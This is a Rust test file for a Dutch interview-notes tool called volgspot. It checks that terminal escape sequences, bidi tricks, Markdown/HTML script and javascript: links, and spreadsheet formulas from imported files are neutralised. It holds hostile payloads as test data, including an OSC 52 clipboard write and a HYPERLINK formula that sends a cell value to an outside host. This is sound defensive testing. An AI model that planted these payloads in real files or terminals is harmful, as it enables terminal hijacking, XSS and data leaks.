//! Text from other people's files leaving the program: no raw escape sequence, bidi
//! override or control character reaches the terminal through the command line, and no
//! C0/C1 control character (but newline and tab) reaches a report file. Markdown and CSV
//! reports show user text as text: no live HTML, link, heading or formula.

use crate::common;

use std::fs;
use std::path::Path;
use std::process::Command;
use time::macros::datetime;
use volgspot::export::{self, Format};
use volgspot::i18n::Lang;
use volgspot::method::Method;
use volgspot::model::interview_file::InterviewFile;
use volgspot::model::*;

/// Sets the terminal title, writes the clipboard (OSC 52), clears the screen, asks for
/// the device attributes (answered into the shell), rings the bell, a C1 CSI, NUL, DEL.
const EVIL: &str = "Jan\u{1b}]0;pwned\u{7}\u{1b}]52;c;ZWNobyBoaQ==\u{7}\u{1b}[2J\u{1b}[c\u{9b}6n\0\u{7f}\u{202e}gnp.exe\u{200b}";

/// Bytes a terminal would act on: C0 controls but newline and tab, DEL, and C1 controls
/// (UTF-8 encoded as C2 80..9F); also the bidi override and zero-width space.
fn raw_controls(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    text.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}')
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

fn session_with(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("s.volgspot.json");
    fs::write(&path, volgspot::tui::EXAMPLE).unwrap();
    path
}

fn evil_interview(dir: &Path) -> std::path::PathBuf {
    let iv = Interview {
        id: Id("evil".into()),
        interviewee: EVIL.into(),
        role: EVIL.into(),
        date: "2026-11-01".into(),
        notes: vec![Note {
            id: Id("n1".into()),
            text: EVIL.into(),
            area: "waarom".into(),
            ..Note::default()
        }],
        ..Interview::default()
    };
    let file = InterviewFile::new(EVIL, iv, datetime!(2026-11-01 10:00 UTC));
    let path = dir.join("evil.interview.json");
    fs::write(&path, serde_json::to_vec_pretty(&file).unwrap()).unwrap();
    path
}

fn run(args: &[&str]) -> std::process::Output {
    common::run(args)
}

#[test]
fn import_prints_names_from_the_file_without_raw_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let session = session_with(dir.path());
    let file = evil_interview(dir.path());
    // The file names another pact (the evil text), so it is imported only with --anyway.
    let out = run(&[
        "import",
        session.to_str().unwrap(),
        file.to_str().unwrap(),
        "--anyway",
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.contains("Jan␛]0;pwned␇"),
        "not shown visibly: {stdout}"
    );
    assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{stdout}");
    assert_eq!(raw_controls(&out.stderr), Vec::<String>::new());
}

#[test]
fn a_parse_error_quoting_the_file_prints_no_raw_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let session = session_with(dir.path());
    let file = evil_interview(dir.path());
    // An unknown note kind: serde quotes it ("unknown variant `…`").
    let text = fs::read_to_string(&file).unwrap().replacen(
        "\"observatie\"",
        "\"\\u001b]0;pwned\\u0007\"",
        1,
    );
    assert!(text.contains("pwned\\u0007"), "{text}");
    fs::write(&file, text).unwrap();
    let out = run(&["import", session.to_str().unwrap(), file.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("␛]0;pwned␇"), "{stderr}");
    assert_eq!(raw_controls(&out.stderr), Vec::<String>::new(), "{stderr}");
    // The session file as given on the command line (a hostile name) likewise.
    let odd = dir.path().join("a\u{1b}[2Jb.volgspot.json");
    let out = run(&["open", odd.to_str().unwrap()]);
    assert_eq!(raw_controls(&out.stderr), Vec::<String>::new());
}

#[test]
fn a_lock_holder_text_with_escapes_is_shown_visibly() {
    let dir = tempfile::tempdir().unwrap();
    let session = session_with(dir.path());
    let lock = volgspot::store::paths::lock_path(&session);
    fs::write(&lock, EVIL).unwrap();
    let f = fs::OpenOptions::new().read(true).open(&lock).unwrap();
    f.lock().unwrap();
    let out = run(&["open", session.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Jan␛]0;pwned␇"), "{stderr}");
    assert_eq!(raw_controls(&out.stderr), Vec::<String>::new(), "{stderr}");
    drop(f);
}

fn evil_session() -> Session {
    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
        .unwrap()
        .0;
    s.intake.pact_name = format!("Pact {EVIL}");
    let iv = std::sync::Arc::make_mut(&mut s.interviews[0]);
    iv.interviewee = EVIL.into();
    for n in iv.notes.iter_mut().take(3) {
        n.text = format!("{EVIL}\nregel twee");
        n.public = true;
    }
    s.intentions[0].text = EVIL.into();
    s
}

fn render(s: &Session, public: bool, format: Format) -> String {
    let report = export::build(s, &Method::builtin(Lang::Nl), Lang::Nl, public);
    export::render(&report, format).unwrap()
}

#[test]
fn no_report_carries_a_raw_control_character() {
    let s = evil_session();
    for public in [false, true] {
        for format in [Format::Markdown, Format::Html] {
            let text = render(&s, public, format);
            assert_eq!(
                raw_controls(text.replace(['\u{202e}', '\u{200b}'], "").as_bytes()),
                Vec::<String>::new(),
                "{format:?} public={public}"
            );
        }
    }
    let csv_text = render(&s, false, Format::Csv);
    let mut rdr =
        csv::ReaderBuilder::new().from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let mut seen = 0;
    for rec in rdr.records() {
        for f in rec.unwrap().iter() {
            seen += 1;
            let bad: Vec<char> = f
                .chars()
                .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
                .collect();
            assert!(
                bad.is_empty(),
                "control characters {bad:?} in CSV field {f:?}"
            );
        }
    }
    assert!(seen > 0);
}

fn session_with_notes(pact: &str, notes: &[&str]) -> Session {
    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
        .unwrap()
        .0;
    s.intake.pact_name = pact.into();
    let iv = std::sync::Arc::make_mut(&mut s.interviews[0]);
    let template = iv.notes[0].clone();
    for text in notes {
        iv.notes.push(Note {
            id: Id::new(),
            text: (*text).into(),
            kind: NoteKind::Observatie,
            public: true,
            ..template.clone()
        });
    }
    s
}

const MARKUP: [&str; 5] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1)) en ![x](http://x/y.png)",
    "eerste regel\n# geen kop\n| geen | tabel |\n|---|---|\n---\n    geen code",
    "`code` *nadruk* _ook_ ~~weg~~ $x$ @bron [^1] <!-- c -->",
];

#[test]
fn markdown_shows_typed_markup_as_text() {
    let s = session_with_notes("Pact\n# Nieuwe kop", &MARKUP);
    let md = render(&s, false, Format::Markdown);
    // The template's own drawing markers are the only comments (the Word export puts the
    // drawings there).
    let markers = [
        "<!-- volgspot:drawing triangle -->",
        "<!-- volgspot:drawing wheel -->",
    ];
    assert!(markers.iter().all(|m| md.lines().any(|l| l == *m)), "{md}");
    let md: String = md
        .lines()
        .filter(|l| !markers.contains(l))
        .map(|l| format!("{l}\n"))
        .collect();
    // No raw HTML, link or image: every `<` and `[` from user text is escaped.
    for bad in [
        "<script",
        "<img",
        "<!--",
        "](javascript",
        "![x]",
        "[klik]",
        "`code`",
        "$x$",
    ] {
        // (The report's own drawing markers are not user text.)
        let unescaped = md.match_indices(bad).any(|(i, _)| {
            !md[..i].ends_with('\\') && !md[i..].starts_with("<!-- volgspot:drawing ")
        });
        assert!(!unescaped, "{bad:?} reached the Markdown unescaped:\n{md}");
    }
    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"), "{md}");
    assert!(md.contains("\\[klik\\](javascript:alert(1))"), "{md}");
    // User text opens no heading, table or code block: each of its lines is escaped.
    for l in md.lines() {
        assert!(
            !l.starts_with("# Nieuwe") && !l.trim_start().starts_with("# geen"),
            "{l}"
        );
        assert!(
            !l.trim_start().starts_with("| geen") && !l.trim_start().starts_with("|---|---|\\"),
            "{l}"
        );
        assert!(!l.starts_with("    geen"), "{l}");
    }
    assert!(md.contains("\\# Nieuwe kop"), "{md}");
    // The inline markup a facilitator may type is kept: emphasis (`_ook_` as `*ook*`),
    // nothing else of that line.
    assert!(
        md.contains(
            "\\`code\\` *nadruk* *ook* \\~\\~weg\\~\\~ \\$x\\$ \\@bron \\[\\^1\\] \\<!-- c --\\>"
        ),
        "{md}"
    );
}

#[test]
fn only_http_https_and_mailto_links_are_links_in_every_format() {
    let s = session_with_notes(
        "Pact",
        &[
            "[a](https://a.example/x?y=1&z=2) [b](mailto:b@example.org) [c](javascript:alert(1)) [d](data:text/html,x) [e](file:///etc/passwd)",
        ],
    );
    let md = render(&s, false, Format::Markdown);
    assert!(md.contains("[a](https://a.example/x?y=1&z=2) [b](mailto:b@example.org) \\[c\\](javascript:alert(1)) \\[d\\](data:text/html,x) \\[e\\](file:///etc/passwd)"), "{md}");
    let html = render(&s, false, Format::Html);
    assert!(html.contains("<a href=\"https://a.example/x?y=1&amp;z=2\">a</a> <a href=\"mailto:b@example.org\">b</a> [c](javascript:alert(1)) [d](data:text/html,x) [e](file:///etc/passwd)"), "{html}");
    assert_eq!(html.matches("<a href").count(), 2, "{html}");
}

#[test]
fn markdown_keeps_line_breaks_of_a_note_inside_its_list_item() {
    let s = session_with_notes(
        "Pact",
        &["regel een\nregel twee\n- regel drie\n\nalinea twee"],
    );
    let md = render(&s, false, Format::Markdown);
    // Lines by hard breaks, a paragraph break (empty line) as a second paragraph of the
    // same item.
    assert!(
        md.contains("- regel een\\\n  regel twee\\\n  \\- regel drie\n\n  alinea twee"),
        "{md}"
    );
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe() {
    let cells = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
        "\t=1+1",
        "+31 6 1234",
        "-2+3",
        "@SUM(A1:A2)",
        "\r=1+1",
    ];
    let s = session_with_notes("Pact", &cells);
    let csv_text = render(&s, false, Format::Csv);
    let mut rdr =
        csv::ReaderBuilder::new().from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let texts: Vec<String> = rdr.records().map(|r| r.unwrap()[3].to_string()).collect();
    // (The report trims a note's leading white space; what is left is guarded.)
    for c in cells {
        let expected = format!("'{}", c.trim_start());
        assert!(texts.contains(&expected), "{expected:?} not in {texts:?}");
    }
    // Ordinary text is left as it is.
    assert!(texts.iter().any(|t| !t.starts_with('\'')));
}

#[test]
fn a_report_of_absurd_agenda_minutes_shows_no_wrapped_total() {
    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
        .unwrap()
        .0;
    s.agenda.blocks = (0..2)
        .map(|i| AgendaBlock {
            id: Id(format!("b{i}")),
            title: format!("Blok {i}"),
            minutes: u32::MAX,
            screen: "intake".into(),
            actual_seconds: u64::MAX,
        })
        .collect();
    let md = render(&s, false, Format::Markdown);
    assert!(!md.contains("4294967294"), "{md}");
    assert!(md.contains(&u32::MAX.to_string()), "{md}");
}

/// `-o /dev/stdout` (or any name leading to a device or pipe) writes to it instead of
/// replacing it with a file. Tested through links in a temporary folder that lead where
/// `/dev/stdout` and `/dev/null` lead: a volgspot that still replaced the name would
/// replace only the link there, never a device node of the machine running the tests.
#[test]
fn export_to_dev_stdout_writes_to_standard_output_and_leaves_the_device() {
    use std::os::unix::fs::{FileTypeExt, symlink};
    let dir = tempfile::tempdir().unwrap();
    let session = session_with(dir.path());
    let stdout_link = dir.path().join("stdout");
    symlink("/proc/self/fd/1", &stdout_link).unwrap();
    let out = run(&[
        "export",
        session.to_str().unwrap(),
        "-o",
        stdout_link.to_str().unwrap(),
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    common::assert_success(&out);
    assert!(stdout.starts_with("# Volgspot 1: "), "{stdout}");
    assert!(
        fs::symlink_metadata(&stdout_link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // A character device (like /dev/null): written to, the name left as it is.
    let null_link = dir.path().join("null");
    symlink("/dev/null", &null_link).unwrap();
    let out = run(&[
        "export",
        session.to_str().unwrap(),
        "-o",
        null_link.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(
        fs::symlink_metadata(&null_link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // A named pipe: written to, not replaced.
    let fifo = dir.path().join("pijp");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || fs::read_to_string(fifo).unwrap())
    };
    let out = run(&[
        "export",
        session.to_str().unwrap(),
        "-o",
        fifo.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(reader.join().unwrap().starts_with("# Volgspot 1: "));
    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
}

/// Cells a terminal would receive that reorder or hide text (bidi overrides, zero-width
/// characters) or steer it (controls).
fn hidden_in_cells(term: &ratatui::Terminal<ratatui::backend::TestBackend>) -> Vec<String> {
    let buf = term.backend().buffer();
    buf.content()
        .iter()
        .flat_map(|c| c.symbol().chars())
        .filter(|c| {
            c.is_control()
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{feff}')
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

const BIDI: &str = "Pact \u{202e}tcap\u{202c} met\u{200b}nul\u{200d}breedte";

#[test]
fn the_start_screen_list_shows_bidi_and_zero_width_characters_visibly() {
    let dir = tempfile::tempdir().unwrap();
    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
        .unwrap()
        .0;
    s.intake.pact_name = BIDI.into();
    volgspot::store::write_new(&dir.path().join("s.volgspot.json"), &s).unwrap();
    let app = volgspot::app::App::new(
        Lang::Nl,
        Method::builtin(Lang::Nl),
        volgspot::tui::start_view(dir.path()),
        datetime!(2026-11-26 14:05:00 +1),
    );
    let term = common::ui::render(&app, 160, 20);
    assert_eq!(hidden_in_cells(&term), Vec::<String>::new());
    let screen = common::ui::text(&term);
    assert!(
        screen.contains("Pact \\u{202e}tcap\\u{202c} met\\u{200b}nul"),
        "{screen}"
    );
}

#[test]
fn intake_tables_show_bidi_and_zero_width_characters_visibly() {
    let mut app = common::ui::demo_app(Lang::Nl);
    if let Some(s) = app.session_mut() {
        s.doc.intake.partners[0].organisation = BIDI.into();
    }
    app.handle_key(ratatui::crossterm::event::KeyEvent::new(
        ratatui::crossterm::event::KeyCode::F(2),
        ratatui::crossterm::event::KeyModifiers::NONE,
    ));
    let term = common::ui::render(&app, 200, 30);
    assert_eq!(hidden_in_cells(&term), Vec::<String>::new());
    assert!(common::ui::text(&term).contains("\\u{202e}tcap"));
}

/// Bidi controls, isolates, marks and zero-width characters in a pact name.
const HIDDEN: &str =
    "Pact\u{202e}lanigiro\u{202c} \u{2066}x\u{2069}\u{200b}\u{200e}\u{200f}\u{feff}Y";

/// The hidden characters a reader of a report file would not see (or would see reordered).
fn hidden_chars(text: &str) -> Vec<String> {
    text.chars()
        .filter(|c| {
            matches!(c,
                '\u{061c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

fn docx_text(bytes: Vec<u8>) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip");
    let mut xml = String::new();
    zip.by_name("word/document.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

#[test]
fn bidi_and_zero_width_characters_are_shown_visibly_in_every_report_format() {
    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
        .unwrap()
        .0;
    s.intake.pact_name = HIDDEN.into();
    // The CSV has no title: an intention carries them there.
    s.intentions[0].text = HIDDEN.into();
    let report = export::build(&s, &Method::builtin(Lang::Nl), Lang::Nl, true);
    for format in [Format::Markdown, Format::Html, Format::Csv] {
        let text = export::render(&report, format).unwrap();
        // The CSV's byte order mark (for spreadsheets) is the file's, not the text's.
        let text = text.trim_start_matches('\u{feff}');
        assert_eq!(hidden_chars(text), Vec::<String>::new(), "{format:?}");
        // As the terminal shows them: the reader sees something is there.
        assert!(text.contains("u{202e}"), "{format:?}: {text}");
        assert!(text.contains("u{200b}"), "{format:?}");
    }
    let xml = docx_text(export::bytes(&report, Format::Docx).unwrap());
    assert_eq!(hidden_chars(&xml), Vec::<String>::new());
    assert!(xml.contains("u{202e}"));
    // The overview (portfolio) of a folder holding this pact, in every format.
    let d = tempfile::tempdir().unwrap();
    fs::write(
        d.path().join("p.volgspot.json"),
        volgspot::store::to_json(&s),
    )
    .unwrap();
    let (sessions, unreadable) = export::portfolio::read_folder(d.path());
    let p = export::portfolio::build(&sessions, unreadable, &Method::builtin(Lang::Nl), Lang::Nl);
    for format in [Format::Markdown, Format::Html, Format::Csv] {
        let text = export::portfolio::render(&p, Lang::Nl, format);
        let text = text.trim_start_matches('\u{feff}');
        assert_eq!(
            hidden_chars(text),
            Vec::<String>::new(),
            "overview {format:?}"
        );
        assert!(text.contains("u{202e}"), "overview {format:?}: {text}");
    }
}

#[test]
fn a_line_break_in_the_pact_name_keeps_the_report_title_one_line() {
    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
        .unwrap()
        .0;
    s.intake.pact_name = "Zorgpact\nMidden-\r\nGelderland".into();
    let report = export::build(&s, &Method::builtin(Lang::Nl), Lang::Nl, true);
    let md = export::render(&report, Format::Markdown).unwrap();
    let title = md.lines().find(|l| l.starts_with("# ")).unwrap();
    assert!(
        title.ends_with(": Zorgpact Midden- Gelderland"),
        "title: {title:?}\n{md}"
    );
    let html = export::render(&report, Format::Html).unwrap();
    assert!(html.contains("Zorgpact Midden- Gelderland</h1>"), "{html}");
    let xml = docx_text(export::bytes(&report, Format::Docx).unwrap());
    assert!(
        xml.contains("Zorgpact Midden- Gelderland"),
        "docx title split"
    );
}
